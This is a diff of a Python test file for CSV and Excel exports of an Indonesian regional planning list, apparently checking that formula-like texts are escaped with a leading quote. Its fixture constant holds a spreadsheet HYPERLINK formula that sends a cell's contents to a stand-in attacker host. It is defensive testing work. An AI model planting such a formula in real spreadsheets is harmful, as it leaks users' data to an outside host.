@@ -25,8 +25,8 @@ from tests.http.test_staff import PASSWORD, add_user
 from tests.rkpd_site import YEAR, Site, rkpd_site
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
-TEXT_COLUMNS = ("Program", "Kegiatan", "Sub Kegiatan", "Indikator Keluaran", "Satuan")
-"""The line's own texts in the CSV (the first "Satuan" is the target's, the second the volume's)."""
+TEXT_COLUMNS = ("Program", "Kegiatan", "Sub Kegiatan", "Indikator Keluaran", "Satuan Target", "Satuan Volume")
+"""The line's own texts in the CSV."""
 
 
 def test_a_text_starting_like_a_formula_gets_a_quote_and_nothing_else_changes() -> None:
@@ -66,10 +66,10 @@ def _rkpd(*items: RkpdItemOut) -> RkpdOut:
 
 
 def _csv_rows(content: bytes) -> list[dict[str, str]]:
-    """The CSV's lines by column name (the second "Satuan" as "Satuan volume")."""
+    """The CSV's lines by column name (every name once: a repeated one would hide a column here)."""
     rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
-    header = rows[0][:10] + ["Satuan volume"] + rows[0][11:]
-    return [dict(zip(header, r, strict=True)) for r in rows[1:]]
+    assert len(set(rows[0])) == len(rows[0]), rows[0]
+    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
 
 
 def _xlsx(content: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
@@ -91,7 +91,7 @@ def test_both_files_of_a_list_with_formula_like_texts_hold_them_as_text_and_numb
     rkpd = _rkpd(_item(**texts, target="-1", volume="-2.5", pagu=-5), _item(id="DBMSDA-002", no=2))
     [line, plain] = _csv_rows(rkpd_files.to_csv(rkpd))
     assert line["Program"] == "'" + HYPERLINK
-    assert [line[c] for c in (*TEXT_COLUMNS, "Satuan volume")] == [
+    assert [line[c] for c in TEXT_COLUMNS] == [
         "'" + texts[f] for f in ("program", "kegiatan", "sub_kegiatan", "output_indicator", "target_unit", "unit")
     ]
     assert (line["No"], line["Target"], line["Volume"], line["Pagu"]) == ("1", "-1", "-2.5", "-5")  # still numbers
@@ -182,7 +182,7 @@ async def test_lines_an_agency_typed_like_formulas_come_out_of_the_downloads_as_
     assert len(rows) == len(data["items"]) == 3
     got = rows[n]
     assert got["Program"] == "'" + HYPERLINK
-    assert [got[c] for c in (*TEXT_COLUMNS, "Satuan volume")] == ["'" + stored[f] for f in fields]
+    assert [got[c] for c in TEXT_COLUMNS] == ["'" + stored[f] for f in fields]
     for item, row in zip(data["items"], rows, strict=True):  # every number is still a number, as in the JSON
         assert (row["No"], row["Target"], row["Volume"], row["Pagu"]) == (
             str(item["no"]), item["target"], item["volume"], str(item["pagu"]),
